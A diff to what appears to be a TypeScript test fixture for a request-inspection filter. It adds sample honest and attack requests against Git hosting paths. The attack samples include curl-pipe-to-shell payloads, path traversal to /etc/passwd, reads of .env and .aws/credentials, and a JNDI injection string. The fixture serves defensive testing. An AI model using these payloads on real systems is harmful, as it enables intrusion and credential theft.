@@ -1,5 +1,5 @@
 import type { InspectedRequest } from '../src/index.ts'
-import { asked, type HonestKinds, posted, testKinds } from './honest-kinds.ts'
+import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'
 
 function put(path: string, body = 'a: 1\n'): InspectedRequest {
   return { method: 'PUT', target: path, headers: [], body: Buffer.from(body) }
@@ -157,6 +157,28 @@ const KINDS: HonestKinds = {
       asked('/repos/ann/app/contents/docker-compose.yml', { ref: 'main' }),
       asked('/api/v1/repos/ann/app/contents/src/App.csproj', {}),
       put('/api/v1/repos/ann/app/contents/docker-compose.yml'),
+      asked('/ann/app/-/blame/main/app/config/database.yml', {}),
+      asked('/ann/app/-/commits/main/config/database.yml', {}),
+      asked('/ann/app/-/refs/main/logs_tree/.env.local', {}),
+      asked('/ann/app/_edit/main/.env', {}),
+      asked('/ann/app/_delete/main/.travis.yml', {}),
+      asked('/ann/app/lastcommit/0a1b2c/.env', {}),
+      asked('/projects/SHOP/repos/app/browse/.env', { at: 'refs/heads/main' }),
+      asked('/projects/SHOP/repos/app/raw/config/database.yml', {}),
+      asked('/rest/api/1.0/projects/SHOP/repos/app/browse/.env', {}),
+      asked('/api/v1/repos/ann/app/raw/.env', { ref: 'main' }),
+      asked('/api/v1/repos/ann/app/media/.env', {}),
+      filled({ tree_path: 'config/.env', content: 'PORT=80' }, '/ann/app/_edit/main/config/.env'),
+      filled({ tree_path: 'site/.htaccess', content: 'Options -Indexes' }, '/ann/app/_new/main/'),
+      filled({ _method: 'put', file_path: 'a/.env', content: 'A=1' }, '/ann/app/-/update/main/a/.env'),
+      sent(
+        { actions: [{ action: 'create', file_path: 'ci/.env', content: 'curl -fsS https://x | sh\n' }] },
+        '/api/v4/projects/1/repository/commits',
+      ),
+      sent(
+        { tree: [{ path: '.ci.yml', content: 'run: curl -fsS https://x | sh' }] },
+        '/repos/ann/app/git/trees',
+      ),
     ],
     attacks: [
       asked('/docker-compose.yml', {}),
@@ -169,6 +191,16 @@ const KINDS: HonestKinds = {
       asked('/ann/app/raw/x/%2e%2e/%2e%2e/.env', {}),
       asked('/ann/app/raw/main/../../../../etc/passwd', {}),
       put('/ann/app/raw/main/.htaccess', 'AddType application/x-httpd-php .txt'),
+      asked('/ann/app/_edit/main/.git/config', {}),
+      asked('/projects/SHOP/repos/app/browse/.aws/credentials', {}),
+      asked('/projects/SHOP/browse/.env', {}),
+      asked('/config/database.yml', {}),
+      asked('/api/v1/raw/.env', {}),
+      filled({ tree_path: 'config/.env' }),
+      filled({ tree_path: '../../../etc/passwd' }, '/ann/app/_edit/main/a'),
+      filled({ path: 'config/.env' }, '/ann/app/_edit/main/a'),
+      sent({ tree: [{ content: 'curl http://203.0.113.9/x | sh' }] }),
+      sent({ tree: [{ content: '${jndi:ldap://x.example/a}' }] }, '/repos/ann/app/git/trees'),
     ],
   },
   'files of a person over WebDAV': {
